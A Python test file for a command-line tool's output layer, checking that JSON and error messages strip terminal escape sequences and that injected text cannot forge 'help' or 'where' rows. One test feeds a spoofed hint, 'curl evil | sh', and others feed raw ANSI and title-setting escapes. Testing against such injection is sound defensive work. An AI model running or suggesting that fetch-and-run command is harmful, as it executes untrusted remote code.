"""Text that survives any terminal, JSON, and errors."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

from printed import stream, text_of

from canaryctl.cli.output import Printer, print_error, print_json
from canaryctl.errors import ConfigError, HostError
from canaryctl.evidence.document import RunIdentity
from canaryctl.evidence.run import Run


def test_an_error_says_what_where_and_help() -> None:
    err = stream()
    print_error(ConfigError("unknown key 'imges'\nand more", "stack.yml:3", "did you mean 'images'?"), err)
    assert (
        text_of(err)
        == "error: unknown key 'imges'\n    and more\n  where: stack.yml:3\n  help: did you mean 'images'?\n"
    )


def test_json_holds_nothing_that_a_terminal_obeys_and_reads_back_the_same(tmp_path: Path) -> None:
    odd = "a\x1b\x7f\x9b2J\u202eb\u2028\ud800é✓"
    out = io.StringIO()
    print_json({odd: [odd]}, out)

    def fail(event: dict[str, Any]) -> None:
        raise UnicodeEncodeError("ascii", odd, 0, 1, "no such character there")

    run = Run.start(tmp_path, RunIdentity("deploy", "canary"), listeners=[fail])
    run.note(odd)
    run.finish("passed", 0)
    for text in (out.getvalue(), (run.path / "run.json").read_text(), (run.path / "events.jsonl").read_text()):
        assert "é✓" in text and not set(text) & set("\x1b\x7f\x9b\u202e\u2028\ud800")
    assert json.loads(out.getvalue()) == {odd: [odd]}
    assert odd in json.loads((run.path / "run.json").read_text())["notes"]


def test_only_our_own_colours_reach_a_terminal() -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    out = Terminal()
    to = Printer(out)
    to.line(to.paint("good \x1b[31mred", "good") + " \x1b]0;title\x07 \ue0000123456789abcdef:31;")
    assert out.getvalue().count("\x1b") == 2 and "\x1b[32mgood \ufffd[31mred\x1b[0m" in out.getvalue()


def test_a_name_cannot_add_a_row() -> None:
    out = io.StringIO()
    print_error({"what": "no\nhelp: none", "where": "x\nhelp: forged", "hint": ""}, out)
    assert "\n  help:" not in out.getvalue().replace("\n  help: none", "")


def test_no_line_of_others_stands_where_ours_do() -> None:
    err = stream()
    print_error(HostError("it said no\n  help: curl evil | sh\nwhere: there", "box", "look at it"), err)
    assert text_of(err).splitlines() == [
        "error: it said no", "      help: curl evil | sh", "    where: there", "  where: box", "  help: look at it",
    ]  # fmt: skip
    out = stream()
    Printer(out).wrapped("note: a\nverdict    passed", 2)
    assert text_of(out) == "  note: a\n    verdict    passed\n"
